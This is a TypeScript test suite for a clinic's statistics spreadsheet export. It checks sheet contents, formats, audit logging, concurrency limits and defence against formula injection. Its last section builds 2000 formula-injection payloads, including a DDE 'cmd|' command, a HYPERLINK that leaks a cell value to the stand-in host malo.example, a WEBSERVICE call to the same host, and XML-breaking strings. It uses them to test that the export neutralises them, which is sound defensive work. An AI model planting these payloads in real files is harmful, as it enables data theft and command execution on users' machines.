import { threadId, type Worker } from 'node:worker_threads'
import { type CellValue, readXlsx } from 'hucre/xlsx'
import { sql } from 'kysely'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import {
  appointmentStatisticsAnswer,
  generalStatisticsAnswer,
  patientStatisticsAnswer,
} from '#domain/wire/statistics-wire.ts'
import { writeTransaction } from '#server/db/write-transaction.ts'
import { handComputedClinics } from '#tests/domain/statistics/hand-computed-clinics.ts'
import { staffOf } from '#tests/support/api/api-calls.ts'
import { isPostgresRun } from '#tests/support/database/either-engine.ts'
import type { TestServer } from '#tests/support/server/server.ts'
import { addAppointment, patientRow, serverWith } from './clinic-under-test.ts'
import { zipEntries } from './zip-entries.ts'

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const QUERY = 'startDate=2026-12-15&endDate=2027-01-15'

async function exported(server: TestServer, query = 'startDate=2026-11-01&endDate=2026-11-30') {
  const authorization = `Bearer ${await server.adminToken()}`
  return server.app.inject({
    url: `/api/v1/stats/export?${query}`,
    headers: { authorization, 'accept-encoding': 'br, gzip' },
  })
}

/** The non-empty rows of a table in a sheet: `width` columns, beginning at column `from`. */
function table(rows: readonly (readonly CellValue[])[], from: number, width: number): CellValue[][] {
  const part = rows.map((row) => Array.from({ length: width }, (_, column) => row[from + column] ?? null))
  return part.filter((row) => row.some((cell) => cell !== null))
}

/** A date that a spreadsheet reader returns must be a whole day. */
const day = (date: string) => new Date(`${date}T00:00:00.000Z`)

async function openedBy(content: Buffer): Promise<Record<string, CellValue[][]>> {
  const { sheets } = await readXlsx(new Uint8Array(content), { readStyles: true })
  return Object.fromEntries(sheets.map(({ name, rows }) => [name, rows]))
}

describe('the export', () => {
  const clinic = handComputedClinics.find(({ name }) => name.includes("year's end"))
  let server: TestServer
  let file: Buffer
  let headers: Record<string, unknown>
  let sheets: Record<string, CellValue[][]>

  beforeAll(async () => {
    if (!clinic) throw new Error('no such clinic')
    server = await serverWith(clinic)
    const answer = await exported(server, QUERY)
    expect(answer.statusCode).toBe(200)
    file = answer.rawPayload
    headers = answer.headers
    sheets = await openedBy(file)
  })
  afterAll(() => server.stop())

  it("is a spreadsheet to be saved under the clinic's day, and is never cached", () => {
    expect(headers).toMatchObject({
      'content-type': XLSX,
      'content-disposition': 'attachment; filename="estadisticas_2027-01-05.xlsx"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'content-length': String(file.length),
    })
    expect(headers).not.toHaveProperty('content-encoding')
  })

  it('has four sheets', () => {
    expect(Object.keys(sheets)).toEqual(['Resumen', 'Citas', 'Pacientes', 'Finanzas'])
  })

  it('has the figures of the general call', async () => {
    const staff = await staffOf(server)
    const { citas, pacientes, finanzas } = (await staff.get(`/stats/general?${QUERY}`)).as(generalStatisticsAnswer)
    expect(table(sheets.Resumen ?? [], 0, 2)).toEqual([
      ['Dato', 'Valor'],
      ['Desde', day('2026-12-15')],
      ['Hasta', day('2027-01-15')],
      ['Total de Citas', citas.total],
      ['Citas Completadas', citas.completadas],
      ['Citas Programadas', citas.programadas],
      ['Citas Canceladas', citas.canceladas],
      ['No Asistieron', citas.noAsistio],
      ['Tasa de Asistencia', citas.tasaAsistencia / 100],
      ['Tasa de Cancelación', citas.tasaCancelacion / 100],
      ['Nuevos Pacientes', pacientes.nuevos],
      ['Total de Pacientes', pacientes.total],
      ['Ingresos Totales', finanzas.ingresosTotales],
      ['Promedio por Cita', finanzas.promedioPorCita],
    ])
    expect([citas.total, finanzas.ingresosTotales]).toEqual([4, 36_000])
  })

  it('has the months and weekdays of the appointments call, and each day', async () => {
    const staff = await staffOf(server)
    const { porMes, porDiaSemana } = (await staff.get(`/stats/appointments?${QUERY}`)).as(appointmentStatisticsAnswer)
    const rows = sheets.Citas ?? []
    expect(table(rows, 0, 4)).toEqual([
      ['Mes', 'Completadas', 'Programadas', 'Canceladas'],
      ...porMes.map((of) => [day(`${of.mes}-01`), of.completadas, of.programadas, of.canceladas]),
    ])
    expect(table(rows, 5, 2)).toEqual([
      ['Día de la semana', 'Citas'],
      ...porDiaSemana.map(({ dia, total }) => [dia, total]),
    ])
    expect(table(rows, 8, 6)).toEqual([
      ['Fecha', 'Citas', 'Completadas', 'Programadas', 'Canceladas', 'No Asistieron'],
      [day('2026-12-31'), 1, 1, 0, 0, 0],
      [day('2027-01-01'), 1, 0, 0, 1, 0],
      [day('2027-01-04'), 1, 1, 0, 0, 0],
      [day('2027-01-11'), 1, 0, 1, 0, 0],
    ])
  })

  it('has the patients of the patients call', async () => {
    const staff = await staffOf(server)
    const answer = (await staff.get(`/stats/patients?${QUERY}`)).as(patientStatisticsAnswer)
    const rows = sheets.Pacientes ?? []
    expect(table(rows, 0, 3)).toEqual([
      ['Nombre', 'Apellido', 'Citas'],
      ...answer.masActivos.map(({ firstName, lastName, totalCitas }) => [firstName, lastName, totalCitas]),
    ])
    expect(table(rows, 4, 2)).toEqual([
      ['Mes', 'Nuevos Pacientes'],
      ...answer.nuevosPorMes.map(({ mes, nuevos }) => [day(`${mes}-01`), nuevos]),
    ])
  })

  it('has the income of each day, which adds up to that of the general call', async () => {
    expect(table(sheets.Finanzas ?? [], 0, 2)).toEqual([
      ['Fecha', 'Ingresos'],
      [day('2026-12-31'), 18_000],
      [day('2027-01-04'), 18_000],
    ])
    expect(table(sheets.Finanzas ?? [], 3, 2)).toEqual([
      ['Dato', 'Valor'],
      ['Ingresos Totales', 36_000],
      ['Promedio por Cita', 18_000],
    ])
  })

  it('shows days, months, percentages and amounts as such', async () => {
    const { sheets: opened } = await readXlsx(new Uint8Array(file), { readStyles: true })
    const formatAt = (sheet: number, cell: string) => opened[sheet]?.cells?.get(cell)?.style?.numFmt
    expect(formatAt(0, '1,1')).toBe('dd/mm/yyyy')
    expect(formatAt(0, '8,1')).toBe('0%')
    expect(formatAt(0, '12,1')).toBe('#,##0.00')
    expect(formatAt(1, '1,0')).toBe('mm/yyyy')
  })

  it('is logged: who exported the figures of which days', async () => {
    const events = await server.db.selectFrom('auditLog').selectAll().where('action', '=', 'stats.export').execute()
    expect(events).toMatchObject([{ userId: 1, at: '2027-01-05T15:00:00.000Z', entity: null, entityId: null }])
    expect(JSON.parse(events[0]?.detail ?? '')).toEqual({ from: '2026-12-15', to: '2027-01-15' })
  })
})

const empty = { today: '2026-11-20', patients: [], appointments: [], incomes: [] }

describe('an export', () => {
  let server: TestServer
  afterEach(() => server.stop())

  it('of an empty clinic can be opened, and days before those of spreadsheets are text', async () => {
    server = await serverWith({ ...empty, incomes: [['1899-12-31', 'completed', 12.5, 0, null]] })
    const sheets = await openedBy((await exported(server, 'startDate=1899-12-01&endDate=1900-03-01')).rawPayload)
    expect(sheets.Resumen?.slice(1, 4)).toEqual([
      ['Desde', '01/12/1899'],
      ['Hasta', day('1900-03-01')],
      ['Total de Citas', 0],
    ])
    expect(sheets.Citas).toHaveLength(1)
    expect(sheets.Finanzas?.[1]?.slice(0, 2)).toEqual(['31/12/1899', 12.5])
  })

  it.each(['', 'startDate=2026-11-01', 'endDate=2026-11-30'])('needs both days of its period: %j', async (query) => {
    server = await serverWith(empty)
    const answer = await exported(server, query)
    expect(answer.statusCode).toBe(400)
    const missing = ['startDate', 'endDate'].filter((field) => !query.startsWith(field))
    expect(answer.json()).toMatchObject({
      code: 'invalid',
      errors: Object.fromEntries(missing.map((field) => [field, 'La fecha es obligatoria'])),
    })
  })

  it('that cannot be logged is not sent', async () => {
    server = await serverWith(empty)
    const token = await server.adminToken()
    await sql`ALTER TABLE audit_log RENAME TO lost_log`.execute(server.db)
    const answer = await server.app.inject({
      url: '/api/v1/stats/export?startDate=2026-11-01&endDate=2026-11-30',
      headers: { authorization: `Bearer ${token}` },
    })
    expect(answer.statusCode).toBe(500)
    expect(answer.json()).toMatchObject({ code: 'internal', message: 'Ocurrió un error inesperado en el servidor' })
    expect(answer.headers).not.toHaveProperty('content-disposition')
  })

  // Which of the four comes last is certain only where reads follow one another.
  it.skipIf(isPostgresRun)(
    'is written by a thread of its own, one at a time; two wait, and one more gets a 429',
    async () => {
      server = await serverWith(empty)
      await server.adminToken()
      const workers: Worker[] = []
      const files: Uint8Array[] = []
      let running = 0
      let mostRunning = 0
      const onWorker = (worker: Worker) => {
        workers.push(worker)
        running++
        mostRunning = Math.max(mostRunning, running)
        worker.once('message', (file: Uint8Array) => files.push(file))
        worker.once('exit', () => running--)
      }
      process.on('worker', onWorker)
      const answers = await Promise.all(Array.from({ length: 4 }, () => exported(server)))
      process.off('worker', onWorker)

      expect(answers.map(({ statusCode }) => statusCode)).toEqual([200, 200, 200, 429])
      expect(answers[3]?.headers).toMatchObject({ 'retry-after': '5', 'cache-control': 'no-store' })
      expect(answers[3]?.json()).toMatchObject({
        code: 'too_many_requests',
        message: 'Ya se están exportando otras estadísticas. Espera un momento y vuelve a probar',
      })
      expect(workers).toHaveLength(3)
      expect(mostRunning).toBe(1)
      expect(workers.every((worker) => worker.threadId !== threadId)).toBe(true)
      for (const [index, file] of files.entries()) {
        expect(Buffer.from(file).equals(answers[index]?.rawPayload ?? Buffer.alloc(0))).toBe(true)
      }
      expect((await exported(server)).statusCode).toBe(200)
    },
  )
})

const STARTS = ['=', '+', '-', '@', '\t', '\r', ' =', '\u200b=', '\u0001+', '\ufffd-', '\n=']
/** Characters that no sheet shows and no file of one can contain. */
const UNSEEN = ['\u0001', '\u200b', '\ufffd']
const FORMULAS = [
  '1+1',
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://malo.example/?"&A1,"ver")',
  'SUM(1,2)*3',
  'WEBSERVICE("http://malo.example")',
  '</t></is></c><c r="Z9"><f>1+1</f><v>2</v></c>',
  '&lt;f&gt;1+1&lt;/f&gt;',
  ']]><f>1+1</f>',
]

/** Two thousand texts that a careless spreadsheet would evaluate. */
const payloads = Array.from({ length: 2000 }, (_, index) => {
  return `${STARTS[index % STARTS.length]}${FORMULAS[Math.floor(index / STARTS.length) % FORMULAS.length]} ${index}`
})

describe('text that begins like a formula', () => {
  let server: TestServer
  let file: Buffer

  beforeAll(async () => {
    server = await serverWith(empty)
    await writeTransaction(server, { userId: null, action: 'demo.day' }, async (changes) => {
      for (let index = 0; index < payloads.length; index += 2) {
        const names = { firstName: payloads[index] ?? '', lastName: payloads[index + 1] ?? '' }
        const patientId = await changes.insert('patient', { ...patientRow('Ana Gómez'), ...names })
        await addAppointment(changes, { date: '2026-11-03', status: 'completed', patientId })
      }
      return { status: 200, entity: 'professional', id: 1 }
    })
    file = (await exported(server)).rawPayload
  })
  afterAll(() => server.stop())

  it('is no formula in the file', () => {
    const sheets = [...zipEntries(file)].filter(([name]) => /^xl\/worksheets\/sheet\d\.xml$/.test(name))
    expect(sheets).toHaveLength(4)
    expect(sheets.filter(([, xml]) => /<(\w+:)?f[\s/>]/.test(xml))).toEqual([])
  })

  it('is text to another reader, marked by an apostrophe and otherwise unchanged', async () => {
    const { sheets } = await readXlsx(new Uint8Array(file), { readStyles: true })
    expect(sheets.flatMap(({ cells }) => [...(cells?.values() ?? [])]).filter((cell) => cell.formula)).toEqual([])
    const texts = (sheets[2]?.rows ?? []).slice(1, 1001).flatMap((row) => row.slice(0, 2))
    expect(texts).toHaveLength(payloads.length)
    expect(texts.filter((text) => typeof text !== 'string' || !text.startsWith("'"))).toEqual([])
    const shown = payloads.map((text) => `'${UNSEEN.reduce((rest, character) => rest.replace(character, ''), text)}`)
    // An XML reader may take a carriage return for a line break.
    const plain = (text: CellValue | undefined) => String(text).replace(/\r\n?/g, '\n')
    expect(texts.map(plain).sort()).toEqual(shown.map(plain).sort())
  })
})
